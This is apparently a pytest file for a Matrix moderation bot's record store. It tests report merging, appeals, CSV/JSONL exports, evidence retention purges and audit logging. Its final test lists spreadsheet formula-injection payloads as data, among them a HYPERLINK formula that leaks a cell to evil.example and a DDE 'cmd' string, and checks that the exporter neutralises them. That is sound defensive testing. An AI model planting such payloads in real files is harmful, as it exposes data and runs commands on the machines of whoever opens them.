"""Reports, appeals, exports and retention in the store: merge, single open appeal, round trips, purge."""

import csv
import io
import json
import os
import stat
import subprocess
import sys

import pytest
import yaml

from bot.export import KINDS, ExportError, collect, encode, export, parse_date
from bot.store import Acceptance, AlreadyOpen, NewCase
from bot.store.audit import verify
from bot.store.retention import purge_evidence

# The store's tests run on SQLite and on PostgreSQL (issue 11): tests/conftest.py.

DAY = 86_400_000
T0 = parse_date("2026-11-01")


async def fill(store):
    await store.agreements.record_acceptance(Acceptance("@a:hs", "1", "ab" * 32, T0, "$agree", "!dm:hs", "command"))
    case = await store.cases.open(NewCase("@b:hs", "restrict", "@mod:hs", "垃圾广告 spam, with \"quotes\"", T0 + DAY,
                                          expires_at=T0 + 2 * DAY, rate="3/1h",
                                          evidence={"sender": "@b:hs", "content": {"body": "买买买\nline two"}}))
    await store.cases.end(case.id, ended_at=T0 + DAY + 5, actor="@mod:hs", how="lifted", reason="ok")
    snapshot = {"event_id": "$bad", "sender": "@b:hs", "content": {"body": "bad"}}
    await store.reports.add(event_id="$bad", room_id="!r:hs", sender="@b:hs", snapshot=snapshot,
                            reporter="@a:hs", reason="rude", now=T0 + 3 * DAY, source="command")
    await store.reports.add(event_id="$bad", room_id="!r:hs", sender="@b:hs", snapshot=snapshot,
                            reporter="@c:hs", reason="also rude", now=T0 + 3 * DAY + 1, source="homeserver")
    await store.appeals.add(case_id=case.id, appellant="@b:hs", text="不公平", now=T0 + 4 * DAY)
    application = await store.accounts.apply(applicant="@news:hs", kind="public", category="news-website",
                                             name="每日新闻 Daily", now=T0 + 5 * DAY)
    await store.accounts.approve(application, by="@mod:hs", note="ok", now=T0 + 6 * DAY,
                                 filing_number="IM2026-02-000001", category="news-website", name="每日新闻 Daily")
    await store.accounts.add_channel("@news:hs", "!daily:hs", T0 + 7 * DAY)
    # issue 9: a verification, with an index and a ciphertext the export must leave out
    await store.identity.record_verification(
        user_id="@a:hs", verifier="assertion", method="eid", level="L2", verified_at=T0 + 8 * DAY,
        recorded_at=T0 + 8 * DAY, actor="assertion", subject_index="ab" * 32, attributes=b"\x00" * 40, note=None)
    return case


async def test_reports_of_one_event_merge_keeping_every_reporter(store):
    await fill(store)
    [report] = await store.reports.open()
    assert report.event_id == "$bad" and [r.reporter for r in report.reporters] == ["@a:hs", "@c:hs"]
    again, new = await store.reports.add(event_id="$bad", room_id="!r:hs", sender="@b:hs", snapshot=None,
                                         reporter="@a:hs", reason="dup", now=T0, source="command")
    assert not new and len(again.reporters) == 2
    assert await store.reports.resolve(report.id, by="@mod:hs", resolution="dismissed", reason="fine", now=T0 + 5 * DAY)
    assert not await store.reports.resolve(report.id, by="@mod:hs", resolution="actioned", reason="x", now=T0)
    assert await store.reports.open() == []


async def test_one_open_appeal_per_case(store):
    case = await fill(store)
    with pytest.raises(AlreadyOpen):
        await store.appeals.add(case_id=case.id, appellant="@b:hs", text="again", now=T0)
    [appeal] = await store.appeals.open()
    assert await store.appeals.decide(appeal.id, by="@mod:hs", decision="denied", reason="no", now=T0)
    second = await store.appeals.add(case_id=case.id, appellant="@b:hs", text="new facts", now=T0)  # after a decision
    assert second.id != appeal.id


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
async def test_every_kind_round_trips_in_both_formats(store, kind, fmt):
    await fill(store)
    columns, rows = await collect(store, kind)
    assert rows, f"{kind} has rows to export"
    data = encode(columns, rows, fmt, bom=False)
    if fmt == "jsonl":
        parsed = [json.loads(line) for line in data.decode("utf-8").splitlines()]
        assert parsed == rows
    else:
        parsed = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        assert [list(p) for p in parsed][0] == columns
        for got, want in zip(parsed, rows):
            for column in columns:
                value = want[column]
                expected = "" if value is None else (json.dumps(value, ensure_ascii=False, sort_keys=True)
                                                     if isinstance(value, (dict, list)) else str(value))
                if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                    expected = "'" + expected  # user IDs start with @: a spreadsheet would run them
                assert got[column] == expected, (kind, column)


async def test_csv_bom_times_and_chinese_text(store):
    await fill(store)
    columns, rows = await collect(store, "cases")
    data = encode(columns, rows, "csv", bom=True)
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "垃圾广告" in text and "2026-11-02T00:00:00.000Z" in text
    assert rows[0]["evidence"]["content"]["body"] == "买买买\nline two"


async def test_filings_list_their_channels(store):
    await fill(store)
    _, [filing] = await collect(store, "filings")
    assert filing["channels"] == ["!daily:hs"] and filing["reviewer"] == "@mod:hs"
    assert filing["approved_at"].startswith("2026-11-07")


async def test_since_until_filter_and_every_export_is_audited(store):
    await fill(store)
    _, rows = await collect(store, "reports", since=T0 + 3 * DAY, until=T0 + 4 * DAY)
    assert len(rows) == 1
    _, none = await collect(store, "reports", since=T0 + 4 * DAY)
    assert none == []
    data, count = await export(store, kind="appeals", fmt="jsonl", actor="@mod:hs", now=T0 + 9 * DAY)
    assert count == 1
    last = await store.db.fetchone("SELECT actor, action, target, details FROM audit_log ORDER BY id DESC LIMIT 1")
    assert (last["actor"], last["action"], last["target"]) == ("@mod:hs", "records.export", "appeals")
    assert json.loads(last["details"])["rows"] == 1


def test_bad_dates_and_kinds():
    with pytest.raises(ExportError, match="not a date"):
        parse_date("yesterday")
    assert parse_date("2026-11-01T08:00:00+08:00") == parse_date("2026-11-01")


async def test_evidence_older_than_retention_is_purged_and_the_purge_recorded(store):
    await fill(store)
    purged = await purge_evidence(store.db, cutoff=T0 + 2 * DAY, now=T0 + 200 * DAY, actor="@bot:hs", days=180)
    assert purged.cases == [1] and purged.reports == []
    case = await store.cases.get(1)
    assert case.evidence is None and case.reason.startswith("垃圾广告")  # the record itself is kept
    [report] = await store.reports.open()
    assert report.snapshot is not None  # newer than the cutoff
    purged = await purge_evidence(store.db, cutoff=T0 + 200 * DAY, now=T0 + 201 * DAY, actor="@bot:hs", days=180)
    assert purged.reports == [report.id] and (await store.reports.get(report.id)).snapshot is None
    actions = [r[0] for r in await store.db.fetchall("SELECT action FROM audit_log WHERE action = 'evidence.purge'")]
    assert len(actions) == 2
    assert (await verify(store.db.conn)).ok, "purging content never touches the audit chain"


def test_export_cli_writes_a_file_and_refuses_bad_input(tmp_path, database):
    import asyncio

    async def prepare():
        store = await database.open()
        await fill(store)
        await store.close()

    asyncio.run(prepare())
    config = tmp_path / "bot.yaml"
    config.write_text(yaml.safe_dump({
        "homeserver": {"url": "http://127.0.0.1:1", "user_id": "@b:hs", "password": "p"},
        "database": database.config, "gate": {"enabled": False},
    }))
    out = tmp_path / "cases.csv"
    # $LOGNAME and $USER are the caller's to set: the audit record names the real OS account.
    spoofed = {**os.environ, "LOGNAME": "not-me", "USER": "not-me"}
    run = subprocess.run([sys.executable, "-m", "bot", "export", "--config", str(config), "--kind", "cases",
                          "--format", "csv", "--bom", "--since", "2026-11-01", "--output", str(out)],
                         capture_output=True, text=True, timeout=60, env=spoofed)
    assert run.returncode == 0, run.stderr
    assert "wrote 1 cases row(s)" in run.stderr and out.read_bytes().startswith(b"\xef\xbb\xbf")
    # The export holds the records and copies of messages: owner only, even over an older file.
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600
    out.chmod(0o644)
    again = subprocess.run([sys.executable, "-m", "bot", "export", "--config", str(config), "--kind", "audit",
                            "--format", "jsonl", "--output", str(out)], capture_output=True, text=True, timeout=60)
    assert again.returncode == 0, again.stderr
    assert stat.S_IMODE(os.stat(out).st_mode) == 0o600 and b'"records.export"' in out.read_bytes()
    import pwd
    assert f'"cli:{pwd.getpwuid(os.getuid()).pw_name}"'.encode() in out.read_bytes()
    assert b"not-me" not in out.read_bytes()
    bad = subprocess.run([sys.executable, "-m", "bot", "export", "--config", str(config), "--kind", "cases",
                          "--format", "csv", "--since", "last week"], capture_output=True, text=True, timeout=60)
    assert bad.returncode == 2 and "not a date" in bad.stderr
    wrong = subprocess.run([sys.executable, "-m", "bot", "export", "--config", str(config), "--kind", "gossip",
                            "--format", "csv"], capture_output=True, text=True, timeout=60)
    assert wrong.returncode == 2 and "invalid choice" in wrong.stderr


async def test_report_in_a_thread_is_not_a_report_of_the_fallback_message(store):
    """A thread message's m.in_reply_to is a client fallback: `!report` there must ask how, not
    file a report against whoever posted last in the thread."""
    from types import SimpleNamespace

    from bot.commands import records as record_commands
    from bot.commands.context import Services
    from bot.commands.dispatch import Dispatcher
    from bot.commands.registry import Registry
    from bot.i18n import Translator
    from bot.policy import PolicyState

    filed = []

    class FakeReports:
        async def report(self, **kwargs):
            filed.append(kwargs)
            return SimpleNamespace(id=7)

    from tests.unit.journal import executor

    class FakeMatrix:
        sent = []

        async def send_notice(self, room_id, body, *, txn, reply_to=None):
            self.sent.append(body)

    registry = Registry(record_commands.COMMANDS)
    state = PolicyState(bot_user_id="@bot:hs", server_name="hs", agreement_version="1")
    for lang in ("en", "zh-CN"):
        t = Translator(lang)
        matrix = FakeMatrix()
        matrix.sent = []
        services = Services(t, state, store, None, None, registry, None, matrix, lambda: 1, FakeReports(), None, None)
        dispatcher = Dispatcher(registry, services, matrix)
        effects = executor(store, matrix)
        relates = {"rel_type": "m.thread", "event_id": "$root", "is_falling_back": True,
                   "m.in_reply_to": {"event_id": "$latest"}}
        thread_msg = {"event_id": "$t", "sender": "@u:hs", "type": "m.room.message",
                      "content": {"msgtype": "m.text", "body": "!report spam", "m.relates_to": relates}}
        thread_msg["event_id"] = f"$t-{lang}"
        await dispatcher.handle("!r:hs", thread_msg, answer_unknown=False)
        await effects.run_due()
        assert filed == []
        assert matrix.sent == [t("report.how")]
        # The same words as a real reply (inside the thread) do file a report of the picked message.
        real = {**thread_msg, "event_id": f"$real-{lang}", "content": {**thread_msg["content"], "m.relates_to": {
            **relates, "is_falling_back": False, "m.in_reply_to": {"event_id": "$picked"}}}}
        await dispatcher.handle("!r:hs", real, answer_unknown=False)
        await effects.run_due()
        assert [f["event_id"] for f in filed] == ["$picked"]
        assert matrix.sent[-1] == t("report.thanks", report=7)
        filed.clear()


async def test_every_copy_of_evidence_is_purged_closure_requests_included(store):
    """A proposed closure keeps a copy of the reported message whether or not it was confirmed;
    retention must empty it with the cases and reports, in the same purge record."""
    from bot.store import ClosureRequest

    case = await fill(store)
    message = {"sender": "@b:hs", "content": {"body": "买买买 copied message"}}
    await store.cases.add_closure_request(ClosureRequest("K7Q2", "@b:hs", "@mod:hs", "spam", False, message, (case.id,),
                                                         T0 + DAY, T0 + DAY + 600_000, None))
    await store.cases.add_closure_request(ClosureRequest("NEW1", "@b:hs", "@mod:hs", "spam", False, message, (),
                                                         T0 + 300 * DAY, T0 + 300 * DAY + 600_000, None))
    purged = await purge_evidence(store.db, cutoff=T0 + 200 * DAY, now=T0 + 201 * DAY, actor="@bot:hs", days=180)
    assert purged.closure_requests == ["K7Q2"] and purged.cases == [case.id] and purged.total == 3
    rows = {r["code"]: r["evidence"] for r in await store.db.fetchall("SELECT code, evidence FROM closure_requests")}
    assert rows == {"K7Q2": None, "NEW1": audit_json(message)}, "only the old copy goes"
    # Nothing that was copied from a message is left anywhere older than the cutoff.
    left = await store.db.fetchall(
        "SELECT 'cases' FROM cases WHERE evidence IS NOT NULL AND created_at < :c"
        " UNION ALL SELECT 'reports' FROM reports WHERE snapshot IS NOT NULL AND created_at < :c"
        " UNION ALL SELECT 'closure_requests' FROM closure_requests WHERE evidence IS NOT NULL AND created_at < :c",
        {"c": T0 + 200 * DAY})
    assert left == []
    [record] = await store.db.fetchall("SELECT details FROM audit_log WHERE action = 'evidence.purge'")
    details = json.loads(record["details"])
    assert details["closure_requests"] == ["K7Q2"] and details["cases"] == [case.id] and len(details["reports"]) == 1
    # The audit log itself never held the content: only hashes.
    dump = " ".join(r[0] for r in await store.db.fetchall("SELECT details FROM audit_log"))
    assert "买买买" not in dump and "copied message" not in dump


def audit_json(value):
    from bot.store.audit import canonical_json

    return canonical_json(value)


async def test_csv_cells_a_spreadsheet_would_run_are_neutralised_but_jsonl_stays_exact(store):
    from bot.export import neutralise

    attacks = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3",
               "@SUM(1+1)", "\t=1+1", "\r=1+1"]
    for i, reason in enumerate(attacks):
        await store.cases.open(NewCase("@b:hs", "warn", "@mod:hs", reason, T0 + i))
    columns, rows = await collect(store, "cases")
    parsed = list(csv.DictReader(io.StringIO(encode(columns, rows, "csv").decode("utf-8"), newline="")))
    assert [p["reason"] for p in parsed] == ["'" + a for a in attacks]
    assert parsed[0]["reason"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    assert parsed[0]["target"] == "'@b:hs", "a user ID starts with @, which a spreadsheet reads as a formula"
    assert parsed[0]["id"] == "1" and parsed[0]["kind"] == "warn"  # harmless text is untouched
    # JSON Lines is data, not a spreadsheet: every value exactly as recorded.
    jsonl = [json.loads(line) for line in encode(columns, rows, "jsonl").decode("utf-8").splitlines()]
    assert [r["reason"] for r in jsonl] == attacks and jsonl[0]["target"] == "@b:hs"
    # A real number stays a number, negative or not; the same characters as text do not.
    numbers = list(csv.reader(io.StringIO(encode(["n", "x", "t"], [{"n": -5, "x": -0.5, "t": "-5"}], "csv")
                                          .decode("utf-8"), newline="")))
    assert numbers[1] == ["-5", "-0.5", "'-5"]
    assert neutralise("a=b") == "a=b" and neutralise("") == ""
